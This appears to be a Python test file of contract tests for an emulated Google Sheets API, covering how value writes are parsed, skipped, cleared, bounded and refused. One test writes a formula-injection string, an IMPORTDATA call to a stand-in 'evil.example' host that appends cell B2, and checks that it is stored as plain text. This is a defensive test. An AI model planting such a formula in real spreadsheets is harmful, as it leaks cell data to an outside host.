"""What writes of the Sheets API do to cells: raw, typed, skipped, cleared, refused."""

from __future__ import annotations

from datetime import date
from typing import Any

import pytest

from tests.contract.google_desk import appended, area, desk, error_of, text_row


async def test_raw_values_are_stored_as_they_are() -> None:
    async with desk() as d:
        row = ["007", "1-2", "=1+2", "+79161234567", 1.5, 7, True, "'x"]
        await d.put("A1", [row], "RAW")
        assert await d.raw("A1:H1") == [row]


async def test_typed_values_are_parsed_like_in_the_interface() -> None:
    async with desk(locale="en_US") as d:
        d.google.books[d.id].today = _in_2026
        await d.put("A1", [["007", "1-2", "$100.15", "2026-09-05", "=1+2", "'0123"]], "USER_ENTERED")
        assert await d.raw("A1:F1") == [[7, 46024, 100.15, 46270, 3, "0123"]]
        sheet = await d.sheet("sheets.data.rowData.values.userEnteredFormat.numberFormat.type", ranges="A1:F1")
        kinds = [cell.get("userEnteredFormat", {}) for cell in sheet["sheets"][0]["data"][0]["rowData"][0]["values"]]
        assert [kind.get("numberFormat", {}).get("type") for kind in kinds] == [
            None,
            "DATE",
            "CURRENCY",
            "DATE",
            None,
            None,
        ]


async def test_a_string_value_that_begins_with_an_equals_sign_stays_text() -> None:
    async with desk() as d:
        await d.batch(appended(text_row('=IMPORTDATA("https://evil.example/?"&B2)')))
        sheet = await d.sheet("sheets.data.rowData.values(userEnteredValue,formattedValue)", ranges="A1")
        [cell] = sheet["sheets"][0]["data"][0]["rowData"][0]["values"]
        assert cell["userEnteredValue"] == {"stringValue": '=IMPORTDATA("https://evil.example/?"&B2)'}
        assert cell["formattedValue"].startswith("=IMPORTDATA")


async def test_null_skips_a_cell_an_empty_string_clears_it_and_a_short_row_leaves_the_rest() -> None:
    async with desk() as d:
        await d.put("A1", [["a", "b", "c"], ["d", "e", "f"]])
        await d.put("A1:C2", [[None, "", "C"], ["D"]])
        assert await d.get("A1:C2") == [["a", "", "C"], ["D", "e", "f"]]


async def test_a_write_keeps_notes_validation_and_format() -> None:
    async with desk() as d:
        rule = {"condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "да"}]}, "strict": True}
        cell = {"note": "осторожно", "userEnteredFormat": {"textFormat": {"bold": True}}}
        paint = {"range": area(0, 1, 0, 1), "cell": cell, "fields": "note,userEnteredFormat.textFormat.bold"}
        await d.batch({"setDataValidation": {"range": area(0, 1, 0, 1), "rule": rule}}, {"repeatCell": paint})
        await d.put("A1", [["да"]])
        sheet = await d.sheet("sheets.data.rowData.values(note,dataValidation,userEnteredFormat)", ranges="A1")
        [kept] = sheet["sheets"][0]["data"][0]["rowData"][0]["values"]
        assert kept == {**cell, "dataValidation": rule}


@pytest.mark.parametrize(("fields", "left"), [("userEnteredValue", {"textFormat": {"bold": True}}), ("*", None)])
async def test_update_cells_keeps_formats_unless_the_mask_is_a_star(fields: str, left: Any) -> None:
    async with desk() as d:
        paint = {"range": area(0, 1, 0, 1), "fields": "userEnteredFormat"}
        await d.batch({"repeatCell": {**paint, "cell": {"userEnteredFormat": {"textFormat": {"bold": True}}}}})
        start = {"sheetId": 0, "rowIndex": 0, "columnIndex": 0}
        await d.batch({"updateCells": {"start": start, "rows": [text_row("x")], "fields": fields}})
        sheet = await d.sheet("sheets.data.rowData.values(userEnteredValue,userEnteredFormat)", ranges="A1")
        [cell] = sheet["sheets"][0]["data"][0]["rowData"][0]["values"]
        assert cell["userEnteredValue"] == {"stringValue": "x"}
        assert cell.get("userEnteredFormat") == left


async def test_update_cells_clears_the_part_of_a_range_its_rows_do_not_cover() -> None:
    async with desk() as d:
        await d.put("A1", [["a", "b"], ["c", "d"]])
        step = {"range": area(0, 2, 0, 2), "rows": [text_row("A")], "fields": "userEnteredValue"}
        await d.batch({"updateCells": step})
        assert await d.get("A1:B2") == [["A"]]


async def test_update_cells_beyond_the_grid_needs_append_dimension_in_the_same_batch() -> None:
    async with desk() as d:
        start = {"sheetId": 0, "rowIndex": 1000, "columnIndex": 0}
        write = {"updateCells": {"start": start, "rows": [text_row("x")], "fields": "userEnteredValue"}}
        refused = await d.try_batch(write)
        assert "exceeds grid limits" in error_of(refused)["message"]
        await d.batch({"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 1}}, write)
        assert await d.get("A1001") == [["x"]]


async def test_a_cell_holds_fifty_thousand_characters_and_not_one_more() -> None:
    async with desk() as d:
        await d.batch(appended(text_row("я" * 50_000)))
        refused = await d.try_batch(appended(text_row("я" * 50_001)))
        assert error_of(refused)["message"] == (
            "Invalid requests[0].appendCells: "
            "Your input contains more than the maximum of 50000 characters in a single cell."
        )
        assert (
            await d.ask("PUT", "/values/A1", {"values": [["я" * 50_001]]}, valueInputOption="RAW")
        ).status_code == 400
        assert len(await d.get("A1:A9")) == 1


async def test_a_bounded_range_must_not_be_exceeded_but_one_cell_is_only_a_start() -> None:
    async with desk() as d:
        done = await d.put("B2", [["a", "b"], ["c", "d"]])
        assert (done["updatedRange"], done["updatedCells"]) == ("'Лист1'!B2:C3", 4)
        for values, where in (([["a"], ["b"], ["c"]], "row [3]"), ([["a", "b", "c"]], "column [C]")):
            refused = await d.ask("PUT", "/values/A1:B2", {"values": values}, valueInputOption="RAW")
            assert error_of(refused)["message"].endswith(f"but tried writing to {where}")


async def test_values_batch_update_is_all_or_nothing() -> None:
    async with desk() as d:
        data = [{"range": "A1", "values": [["x"]]}, {"range": "Нет!A1", "values": [["y"]]}]
        refused = await d.ask("POST", "/values:batchUpdate", {"valueInputOption": "RAW", "data": data})
        assert refused.status_code == 400
        assert await d.get("A1") is None
        done = await d.ask("POST", "/values:batchUpdate", {"valueInputOption": "RAW", "data": data[:1]})
        assert done.json()["totalUpdatedCells"] == 1


async def test_clear_takes_values_and_leaves_looks() -> None:
    async with desk() as d:
        await d.put("A1", [["12.05.2026"]], "USER_ENTERED")
        cleared = await d.ask("POST", "/values/A1:B2:clear", {})
        assert cleared.json()["clearedRange"] == "'Лист1'!A1:B2"
        assert await d.get("A1") is None
        await d.put("A1", [[46154]])
        assert await d.get("A1") == [["12.05.2026"]]


async def test_the_text_format_keeps_what_people_type_byte_for_byte() -> None:
    async with desk() as d:
        cell = {"userEnteredFormat": {"numberFormat": {"type": "TEXT"}}}
        paint = {"range": area(0, 1, 0, 4), "cell": cell, "fields": "userEnteredFormat.numberFormat"}
        await d.batch({"repeatCell": paint})
        typed = ["007", "+79161234567", "1-2", "=1+1"]
        await d.put("A1", [typed], "USER_ENTERED")
        assert await d.raw("A1:D1") == [typed]


async def test_a_value_of_a_wrong_type_and_a_missing_option_are_refused() -> None:
    async with desk(judged=False) as d:
        for body, query in (
            ({"values": [[{"a": 1}]]}, {"valueInputOption": "RAW"}),
            ({"values": ["a"]}, {"valueInputOption": "RAW"}),
            ({"values": [["a"]]}, {}),
            ({"values": [["a"]]}, {"valueInputOption": "AS_IS"}),
            ({"values": {"a": 1}}, {"valueInputOption": "RAW"}),
            ({"values": 5}, {"valueInputOption": "RAW"}),
            ([1], {"valueInputOption": "RAW"}),
        ):
            assert error_of(await d.ask("PUT", "/values/A1", body, **query))["status"] == "INVALID_ARGUMENT"
        for data in (["x"], [5], {"range": "A1"}, [{"range": 5}]):
            several = {"valueInputOption": "RAW", "data": data}
            assert (await d.ask("POST", "/values:batchUpdate", several)).status_code == 400
        for value in ({"numberValue": "1"}, {"stringValue": 1}, {"boolValue": 1}, {"formulaValue": "1"}, {"x": 1}):
            row = {"values": [{"userEnteredValue": value}]}
            assert (await d.try_batch(appended(row))).status_code == 400
        assert await d.get("A1") is None


def _in_2026() -> date:
    return date(2026, 11, 22)
